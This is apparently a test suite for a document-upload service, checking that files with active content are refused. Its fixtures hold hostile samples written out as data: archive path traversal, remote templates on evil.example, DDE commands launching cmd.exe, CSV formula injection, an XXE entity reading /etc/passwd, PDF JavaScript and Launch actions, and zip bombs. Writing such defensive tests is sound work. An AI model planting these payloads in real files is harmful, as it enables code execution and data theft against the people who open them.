/**
 * Documents that act when somebody opens them: refused with the reason. The same documents without the active part are
 * accepted.
 */
import { randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { ok } from '../support/answer.ts';
import { docxParts, zip } from '../support/files.ts';
import { documentSite, fault } from './document-site.ts';
import { archive, field, openText, relation, relations, run, said, table, word, wordBody } from './office-files.ts';
import {
  encryption,
  objectStream,
  packedObjects,
  packedStream,
  pdfWith,
  sealed,
  sealedString,
  stream,
} from './pdf-files.ts';

const site = documentSite();
type Case = readonly [what: string, content: Buffer, code: string];

async function refused(content: Buffer, name: string): Promise<unknown> {
  const { id } = await site.made();
  const before = site.stored();
  const [status, code] = fault(await site.send(id, content, name));
  expect([status, site.stored(), site.onTheWay()]).toEqual([400, before, 0]);
  return code;
}
async function taken(content: Buffer, name: string) {
  const { id } = await site.made();
  expect(ok(await site.send(id, content, name))['byteSize']).toBe(content.length);
}

const part = (name: string, content = '<x/>') => ({ name, content: Buffer.from(content) });
const withEntry = (entry: Parameters<typeof zip>[0][number]) => zip([...docxParts, entry]);

describe('an archive', () => {
  test.each<Case>([
    ['a way out', withEntry(part('../evil.txt')), 'damaged'],
    ['a way out further in', withEntry(part('word/../../evil.txt')), 'damaged'],
    ['a way out in percent', withEntry(part('word/%2e%2e/evil.txt')), 'damaged'],
    ['a place on the disk', withEntry(part('/etc/passwd')), 'damaged'],
    ['a place on a drive', withEntry(part('C:/evil.txt')), 'damaged'],
    ['a backslash', withEntry(part('word\\evil.txt')), 'damaged'],
    ['a sign of control', withEntry(part('word/a\0.xml')), 'damaged'],
    ['no name', withEntry(part('')), 'damaged'],
    ['the same name twice', withEntry(part('word/document.xml')), 'damaged'],
    ['the same name in other letters', withEntry(part('WORD/document.XML')), 'damaged'],
    ['a symbolic link', withEntry({ ...part('word/link'), mode: 0xa1ff }), 'damaged'],
    ['two names for one entry', withEntry({ ...part('word/a.xml'), localName: 'word/b.xml' }), 'damaged'],
    ['an encrypted entry', withEntry({ ...part('word/a.xml'), flags: 1 }), 'password'],
    ['bytes between entries', withEntry({ ...part('word/a.xml'), gap: 'MZ' }), 'damaged'],
    ['bytes after it', Buffer.concat([word(), Buffer.from('x')]), 'damaged'],
    ['a comment', zip(docxParts, 'PK\x05\x06'), 'damaged'],
    ['more than it says', withEntry({ ...part('word/a.xml', 'x'.repeat(500)), unpacked: 10 }), 'zip_bomb'],
    ['less than it says', withEntry({ ...part('word/a.bin', 'x'), unpacked: 10 }), 'damaged'],
    ['lengths of ZIP64', withEntry({ ...part('word/a.bin', 'x'), unpacked: 0xffffffff }), 'zip_bomb'],
    [
      'bytes that are no entry',
      Buffer.concat([Buffer.from('PK\x03\x04'), word().subarray(4, 40), Buffer.from([1]), word().subarray(40)]),
      'damaged',
    ],
  ])('with %s is refused', async (_what, content, code) => expect(await refused(content, 'plan.docx')).toBe(code));

  test('whose lengths stand behind the entries is taken', async () => {
    await taken(zip([...docxParts, part('word/styles.xml')].map((one) => ({ ...one, flags: 8 }))), 'plan.docx');
  });
});

const rels = (...all: readonly string[]) => ({ 'word/_rels/document.xml.rels': relations(...all) });
const settings = (target: string) => ({
  'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', target)),
});
const utf16 = (text: string) =>
  Buffer.from(`\ufeff${text.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, 'utf16le');
const evil = relations(relation('attachedTemplate', 'https://evil.example/a.dotm'));
const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const deleted = (text: string) => `<w:del w:id="1"><w:r><w:delInstrText>${text}</w:delInstrText></w:r></w:del>`;
const chosen = `<mc:AlternateContent><mc:Choice Requires="w14">${said('x')}</mc:Choice></mc:AlternateContent>`;
const nested = (inside: string) =>
  `${run('<w:fldChar w:fldCharType="begin"/>')}${said(inside)}${run('<w:fldChar w:fldCharType="end"/>')}`;

describe('a Word file', () => {
  test.each<Case>([
    ['a template from the web', word({ parts: settings('https://evil.example/a.dotm') }), 'linked'],
    ['a template from a share', word({ parts: settings('file://///evil/share/a.dotm') }), 'linked'],
    ['a template from a share in percent', word({ parts: settings('file:///%5C%5Cevil%5Ca.dotm') }), 'linked'],
    ['a template above', word({ parts: settings('file:///C:/a/../../evil.dotm') }), 'linked'],
    ['a picture from the web', word({ parts: rels(relation('image', 'http://evil.example/a.png')) }), 'linked'],
    [
      'an address that claims to be inside',
      word({ parts: rels(relation('image', 'http://a/a.png', false)) }),
      'linked',
    ],
    ['an object from the web', word({ parts: rels(relation('oleObject', 'mhtml:http://evil.example')) }), 'embedded'],
    ['a frame', word({ parts: rels(relation('frame', 'http://evil.example')) }), 'linked'],
    ['a part of another file', word({ parts: rels(relation('subDocument', 'file:///C:/a.docx')) }), 'linked'],
    ['a page inside', word({ parts: rels(relation('aFChunk', 'a.html', false)) }), 'embedded'],
    ['a control', word({ parts: rels(relation('control', 'activeX/activeX1.xml', false)) }), 'embedded'],
    ['an object of OLE', word({ parts: { 'word/embeddings/oleObject1.bin': ole } }), 'embedded'],
    ['an object of OLE named picture', word({ parts: { 'word/media/image1.png': ole } }), 'embedded'],
    ['a program', word({ parts: { 'word/media/a.bin': Buffer.from('MZ\x90\0\x03') } }), 'embedded'],
    ['an archive', word({ parts: { 'word/media/a.bin': zip([part('a.txt', 'a')]) } }), 'embedded'],
    [
      'a Word file with a template inside',
      word({ parts: { 'word/a.docx': word({ parts: settings('http://a') }) } }),
      'linked',
    ],
    [
      'macros by their type',
      word({ type: '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>' }),
      'macros',
    ],
    ['macros by their relation', word({ parts: rels(relation('vbaProject', 'a.bin', false)) }), 'macros'],
    ['DDE', word({ body: field(said(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')) }), 'linked'],
    ['DDE in pieces', word({ body: field(`${said(' D')}${said('dE')}${said(' cmd')}`) }), 'linked'],
    ['DDE in CDATA', word({ body: field(said('<![CDATA[DDE]]> cmd')) }), 'linked'],
    ['DDE in numbers', word({ body: field(said('&#68;&#x44;E cmd')) }), 'linked'],
    ['DDE around deleted words', word({ body: field(`${said('DD')}${deleted('x')}${said('E cmd')}`) }), 'linked'],
    ['DDE by deleted words', word({ body: field(`${deleted('DDE')}${said(' cmd')}`) }), 'linked'],
    ['DDE around a choice', word({ body: field(`${said('DD')}${chosen}${said('E cmd')}`) }), 'linked'],
    ['DDE by another field', word({ body: field(`${said('DD')}${nested('QUOTE "E"')}${said(' cmd')}`) }), 'linked'],
    ['DDE in a simple field', word({ body: '<w:p><w:fldSimple w:instr=" DDE cmd"/></w:p>' }), 'linked'],
    [
      'DDE that does not end',
      word({ body: `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${said('DDE a')}</w:p>` }),
      'linked',
    ],
    ['DDE in a footer', word({ parts: { 'word/footer1.xml': wordBody(field(said('DDE a'))) } }), 'linked'],
    [
      'a picture that is fetched',
      word({ body: field(said('INCLUDEPICTURE "http://evil.example/a.png" \\d')) }),
      'linked',
    ],
    ['a text that is fetched', word({ body: field(said('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')) }), 'linked'],
    [
      'a document type',
      word({ parts: { 'customXml/item1.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' } }),
      'damaged',
    ],
    ['an entity nobody knows', word({ parts: { 'customXml/item1.xml': '<a>&nbsp;</a>' } }), 'damaged'],
    ['a template told in UTF-16', word({ parts: { 'word/_rels/settings.xml.rels': utf16(evil) } }), 'linked'],
    [
      'another encoding',
      word({ parts: { 'customXml/item1.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' } }),
      'damaged',
    ],
    [
      'a template told with a prefix',
      word({
        parts: {
          'a.rels': evil.replaceAll('<Rel', '<p:Rel').replaceAll('</Rel', '</p:Rel').replace('xmlns=', 'xmlns:p='),
        },
      }),
      'linked',
    ],
    [
      'a template told in a part of another name',
      word({ parts: { 'word/_RELS/a.bin': `\n\t${evil.slice(evil.indexOf('<Rel'))}` } }),
      'linked',
    ],
    ['XML without an end', word({ parts: { 'customXml/item1.xml': '<a><b></a>' } }), 'damaged'],
    ['XML of great depth', word({ parts: { 'customXml/item1.xml': '<a>'.repeat(1000) } }), 'damaged'],
  ])('with %s is refused', async (_what, content, code) => expect(await refused(content, 'plan.docx')).toBe(code));

  test.each([
    [
      'links to click',
      word({ parts: rels(relation('hyperlink', 'https://a.example/b'), relation('hyperlink', 'mailto:a@a.example')) }),
    ],
    [
      'a template of its writer',
      word({ parts: settings('file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx') }),
    ],
    ['a template by its name', word({ parts: settings('Normal.dotm') })],
    [
      'page numbers and mail merge',
      word({
        body: `${field(said(' PAGE  \\* MERGEFORMAT '))}${field(`${said('IF ')}${nested('MERGEFIELD a')}${said(' = "1" "DDE" ""')}`)}${field(`${said('HYPER')}${said('LINK "https://a.example"')}`)}`,
      }),
    ],
    ['words about fields', word({ body: `<w:p>${run('<w:t>DDEAUTO cmd &amp; INCLUDEPICTURE</w:t>')}</w:p>` })],
    ['UTF-16', word({ parts: { 'customXml/item1.xml': utf16('<?xml version="1.0" encoding="UTF-8"?><a>ü</a>') } })],
    [
      'a picture and a table inside',
      word({ parts: { 'word/media/image1.png': randomBytes(500), 'word/embeddings/a.xlsx': table() } }),
    ],
  ])('with %s is taken', async (_what, content) => taken(content, 'plan.docx'));
});

const cell = (formula: string) => `<c r="B1"><f>${formula}</f></c>`;

describe('a table', () => {
  test.each<Case>([
    [
      'another table',
      table({
        parts: {
          'xl/_rels/workbook.xml.rels': relations(relation('externalLink', 'externalLinks/externalLink1.xml', false)),
        },
      }),
      'linked',
    ],
    [
      'data from elsewhere',
      table({ parts: { 'xl/_rels/workbook.xml.rels': relations(relation('connections', 'connections.xml', false)) } }),
      'linked',
    ],
    [
      'DDE',
      table({ parts: { 'xl/a.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' } }),
      'linked',
    ],
    ['DDE in a formula', table({ cells: cell("cmd|'/c calc'!A0") }), 'linked'],
    ['an address in a formula', table({ cells: cell('_xlfn.WEBSERVICE("http://evil.example")') }), 'linked'],
    [
      'earlier macros',
      table({
        parts: {
          'xl/_rels/workbook.xml.rels': relations(
            relation('xlMacrosheet', 'macrosheets/sheet1.xml', false).replace(
              /http.*?2006/,
              'http://schemas.microsoft.com/office/2006',
            ),
          ),
        },
      }),
      'macros',
    ],
  ])('with %s is refused', async (_what, content, code) => expect(await refused(content, 'table.xlsx')).toBe(code));

  test('with formulas is taken', async () => {
    const cells = cell(`IF('A|B'!A1="x|y",Names[[#This Row],[a|b]],"it's |")&amp;RECALL(1)`);
    await taken(table({ cells }), 'table.xlsx');
  });

  test.each<Case>([
    ['a program', Buffer.from(`name;age\n=cmd|' /C calc'!A0;7\n`), 'linked'],
    ['a program further in', Buffer.from(`name,age\n"=SUM(1,cmd|'/C calc'!A0)",7\n`), 'linked'],
    ['an address', Buffer.from('name,age\n"=WEBSERVICE(""http://evil.example/""&A1)",7\n'), 'linked'],
    ['another kind', Buffer.from('ID;PWXL;N;E\nC;X1;Y1;K0;ECALL("a")\nE\n'), 'linked'],
  ])('in CSV with %s is refused', async (_what, content, code) =>
    expect(await refused(content, 'list.csv')).toBe(code),
  );

  test('in CSV with formulas and notes is taken', async () => {
    await taken(Buffer.from('ID,note\n-5,"- pain | fever!"\n+1 555,=SUM(A1:A9)\n@home,call (mother)\n'), 'list.csv');
  });
});

describe('an OpenDocument text', () => {
  const frame = (href: string) => `<draw:frame><draw:image xlink:href="${href}"/></draw:frame>`;
  test.each<Case>([
    ['Basic', openText({ parts: { 'Basic/Standard/Module1.xml': '<x/>' } }), 'macros'],
    ['a script', openText({ parts: { 'Scripts/python/a.py': 'print(1)' } }), 'macros'],
    ['an event', openText({ body: '<script:event-listener script:event-name="dom:load"/>' }), 'macros'],
    ['a picture from the web', openText({ body: frame('http://evil.example/a.png') }), 'linked'],
    ['a picture beside it', openText({ body: frame('../a.png') }), 'linked'],
    ['DDE', openText({ body: '<office:dde-source/>' }), 'linked'],
    ['an object of OLE', openText({ body: '<draw:object-ole xlink:href="./Object 1"/>' }), 'embedded'],
    [
      'a password',
      openText({ parts: { 'META-INF/manifest.xml': '<manifest><encryption-data/></manifest>' } }),
      'password',
    ],
    ['two kinds', openText({ parts: { '[Content_Types].xml': '<x/>' } }), 'damaged'],
  ])('with %s is refused', async (_what, content, code) => expect(await refused(content, 'plan.odt')).toBe(code));

  test('with a picture, a link to click and empty libraries is taken', async () => {
    const body = `${frame('Pictures/a.png')}<text:a xlink:href="https://a.example">a</text:a>`;
    const parts = { 'Pictures/a.png': randomBytes(99), 'Basic/script-lc.xml': '<x/>' };
    await taken(openText({ body, parts }), 'plan.odt');
  });
});

const script = (text: string) => `<</S/JavaScript/JS(${text})>>`;
const alert = script('app.alert\\(1\\)');
const opening = (action: string) => ({ catalog: `/OpenAction ${action}` });
const formScript = 'AFNumber_Format(2, 0, 0, 0, "\\\\u20ac", true);'.replace(/[()]/g, '\\$&');
const hidden = (text: string) => Buffer.from(`99 0 obj\n${text}\nendobj`);

describe('a PDF', () => {
  test.each<Case>([
    ['a script', pdfWith(opening(alert)), 'active'],
    [
      'a script in a tree of names',
      pdfWith({ catalog: '/Names<</JavaScript<</Names[(a) 5 0 R]>>>>' }, alert),
      'active',
    ],
    ['a script in other letters', pdfWith(opening('<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>')), 'active'],
    ['a script after comments', pdfWith(opening('<</S%a\n%b\n/JavaScript /JS(a)>>')), 'active'],
    [
      'a script named elsewhere',
      pdfWith(opening('<</S 5 0 R/JS 6 0 R>>'), '/JavaScript', '(app.alert\\(1\\))'),
      'active',
    ],
    ['a script as a stream', pdfWith(opening('<</S/JavaScript/JS 5 0 R>>'), packedStream('app.alert(1)')), 'active'],
    ['a script among packed objects', pdfWith(opening('9 0 R'), packedObjects({ 9: alert })), 'active'],
    ['a script in a stream without its type', pdfWith(opening('9 0 R'), packedObjects({ 9: alert }, '')), 'active'],
    [
      'a script in a stream named picture',
      pdfWith(opening('9 0 R'), packedObjects({ 9: alert }, '/Subtype/Image')),
      'active',
    ],
    [
      'a script in an update',
      Buffer.concat([pdfWith(), Buffer.from(`1 0 obj <</AA<</O ${alert}>>>> endobj trailer <</Root 1 0 R>>`)]),
      'active',
    ],
    [
      'a script before an update',
      Buffer.concat([pdfWith(opening(alert)), Buffer.from('1 0 obj <</Type/Catalog>> endobj')]),
      'active',
    ],
    [
      'a script inside a text',
      pdfWith({}, Buffer.concat([Buffer.from('('), hidden(alert), Buffer.from(')')])),
      'active',
    ],
    ['a script inside a stream', pdfWith({}, stream(hidden(alert))), 'active'],
    ['a script in the trailer', pdfWith({ trailer: `/Root<</OpenAction ${alert}>>` }), 'active'],
    [
      'two scripts under one key',
      pdfWith({ catalog: `/AA<</C<</S/JavaScript/JS(${formScript})/JS(a.b\\(\\))>>>>` }),
      'active',
    ],
    ['a script behind a harmless one', pdfWith(opening(script(`${formScript}app.alert\\(1\\)`))), 'active'],
    ['a script that is harmless by half', pdfWith(opening(script('AFNumber_Format = 1'))), 'active'],
    ['a script of a film', pdfWith(opening('<</S/Rendition/JS(a)>>')), 'active'],
    ['a program', pdfWith(opening('<</S/Launch/F(cmd.exe)>>')), 'active'],
    ['a form that sends itself', pdfWith({}, '<</Type/Annot/A<</S/SubmitForm/F(http://evil.example)>>>>'), 'active'],
    ['data from elsewhere', pdfWith({}, '<</S/ImportData/F(a.fdf)>>'), 'active'],
    ['a jump to another file', pdfWith({ catalog: '/AA<</O<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>>>' }), 'active'],
    ['a jump into a file inside', pdfWith({}, '<</S/GoToE/T<</R/C>>>>'), 'active'],
    [
      'a file inside',
      pdfWith({}, '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', packedStream('MZ', '/Type/EmbeddedFile')),
      'embedded',
    ],
    ['a film', pdfWith({}, '<</Type/Annot/Subtype/RichMedia>>'), 'active'],
    ['a form of XFA', pdfWith({ catalog: '/AcroForm<</XFA 5 0 R>>' }, packedStream('<xdp/>')), 'active'],
    ['a password', pdfWith({ trailer: `/Encrypt ${encryption('secret')}` }), 'password'],
    ['a lock of another kind', pdfWith({ trailer: '/Encrypt<</Filter/Adobe.PubSec/V 4>>' }), 'password'],
    [
      'packed objects nobody can read',
      pdfWith({}, stream(Buffer.from('99 0 '), '/Type/ObjStm/N 1/First 5/Filter/LZWDecode')),
      'damaged',
    ],
    ['objects of great depth', pdfWith({}, '['.repeat(5000)), 'damaged'],
  ])('with %s is refused', async (_what, content, code) => expect(await refused(content, 'letter.pdf')).toBe(code));

  const locked = { trailer: `/Encrypt ${encryption()}` };
  const { text, more } = objectStream({ 9: alert });
  test.each<Case>([
    ['a script', pdfWith({ ...locked, ...opening(`<</S/JavaScript/JS ${sealedString('app.alert(1)')}>>`) }), 'active'],
    [
      'a script among packed objects',
      pdfWith(locked, stream(sealed(packedStream(text).subarray(32, -10)), `${more}`)),
      'damaged',
    ],
    ['a script among objects', pdfWith(locked, stream(sealed(text), more)), 'active'],
    ['a script among objects that are not encrypted', pdfWith(locked, stream(Buffer.from(text), more)), 'damaged'],
  ])('that is encrypted without a password, with %s, is refused', async (_what, content, code) =>
    expect(await refused(content, 'letter.pdf')).toBe(code),
  );

  test.each([
    ['a place to begin at', pdfWith(opening('[3 0 R /Fit]'))],
    ['a jump within it', pdfWith(opening('<</S/GoTo/D[3 0 R /Fit]>>'))],
    ['links to click', pdfWith({}, '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/Web/JavaScript)>>>>')],
    [
      'words about scripts',
      pdfWith(
        { trailer: '/Info<</Title(JavaScript and /JavaScript)>>' },
        stream(Buffer.from('BT (/JS /Launch) Tj ET')),
      ),
    ],
    [
      'a form',
      pdfWith({ catalog: '/AcroForm<</Fields[5 0 R]/XFA[]>>' }, '<</FT/Tx/T(name)/V(Ana)/AA<</E<</S/Hide/T(b)>>>>>>'),
    ],
    [
      'a form that writes numbers and adds them up',
      pdfWith(
        { catalog: '/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>' },
        `<</FT/Tx/AA<</F ${script(formScript)}/C<</S/JavaScript/JS 6 0 R>>>>>>`,
        packedStream('AFSimple_Calculate("SUM", new Array ("a", "b"));'),
      ),
    ],
    [
      'a form that is encrypted without a password',
      pdfWith({ ...locked, ...opening(`<</S/JavaScript/JS ${sealedString('AFDate_FormatEx("mm/dd/yyyy");')}>>`) }),
    ],
    ['structure and a fading page', pdfWith({}, '<</Type/StructElem/S/P>>', '<</Type/Page/Trans<</S/Fade>>>>')],
    ['packed objects', pdfWith({}, packedObjects({ 9: '<</Type/Font/Subtype/Type1>>', 10: '[1 2 R]' }))],
  ])('with %s is taken', async (_what, content) => taken(content, 'letter.pdf'));
});

describe('another kind', () => {
  test.each<readonly [string, Buffer, string]>([
    [
      'letter.rtf',
      Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dotm}{\\object\\objupdate}}'),
      'not_allowed',
    ],
    ['letter.doc', Buffer.concat([ole, Buffer.alloc(600)]), 'not_allowed'],
    ['table.xls', Buffer.concat([ole, Buffer.alloc(600)]), 'not_allowed'],
    ['slides.pptx', archive({ '[Content_Types].xml': '<x/>', 'ppt/presentation.xml': '<x/>' }), 'not_allowed'],
    ['plan.docm', word(), 'other_type'],
    ['letter.txt', Buffer.from('MIME-Version: 1.0\n\n<html>'), 'markup'],
  ])('such as %s is refused', async (name, content, code) => expect(await refused(content, name)).toBe(code));
});

/**
 * Contents for which a check that reads the same bytes again and again would need minutes; each is nearly as large as
 * is accepted.
 */
describe('what takes time', () => {
  const size = 1_900_000;
  const fill = (text: string) => Buffer.from(text.repeat(Math.floor(size / text.length)));
  const after = (body: Buffer) => Buffer.concat([Buffer.from('%PDF-1.7\n'), body]);
  test.each<readonly [string, Buffer, string]>([
    ['objects inside objects', after(fill('1 0 obj(')), 'letter.pdf'],
    ['dictionaries that do not end', after(fill('1 0 obj<</S/S')), 'letter.pdf'],
    ['comments after a key', after(fill('/S%')), 'letter.pdf'],
    ['texts that do not end', after(fill('obj<')), 'letter.pdf'],
    ['references to each other', after(fill('5 0 obj 5 0 R endobj 6 0 obj<</S 5 0 R>>endobj ')), 'letter.pdf'],
    ['streams that do not end', after(fill('5 0 obj<</First 1>>stream ')), 'letter.pdf'],
    [
      'streams that end together',
      after(Buffer.concat([fill('5 0 obj<</First 1>>stream '), Buffer.from('endstream')])),
      'letter.pdf',
    ],
    [
      'one stream that is read often',
      after(
        Buffer.concat([
          Buffer.from('5 0 obj<<>>stream '),
          Buffer.alloc(60_000, 'x'),
          Buffer.from(' endstream '),
          fill('6 0 obj<</S/JavaScript/JS 5 0 R>>endobj '),
        ]),
      ),
      'letter.pdf',
    ],
    ['noise', after(randomBytes(size)), 'letter.pdf'],
    ['noise in an archive', word({ parts: { 'word/media/a.png': randomBytes(size) } }), 'plan.docx'],
    ['many elements', word({ body: fill('<w:p a="1"/>').toString() + randomBytes(9000).toString('hex') }), 'plan.docx'],
    [
      'many attributes',
      word({ body: `<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>` }),
      'plan.docx',
    ],
    ['one long formula', table({ cells: cell(`"${randomBytes(700_000).toString('hex')}"`) }), 'table.xlsx'],
    ['a list of strokes', fill("a|'"), 'list.csv'],
    ['a list of quotation marks', fill('=a|"'), 'list.csv'],
    ['spaces after a sign', Buffer.from(`<${' '.repeat(size)}`), 'a.txt'],
  ])('like %s is done soon', async (_what, content, name) => {
    const { id } = await site.made();
    const began = performance.now();
    const answer = await site.send(id, content, name);
    expect(JSON.stringify(answer.body)).not.toContain('unchecked');
    expect([200, 400]).toContain(answer.status);
    expect(performance.now() - began).toBeLessThan(10_000);
  });
});
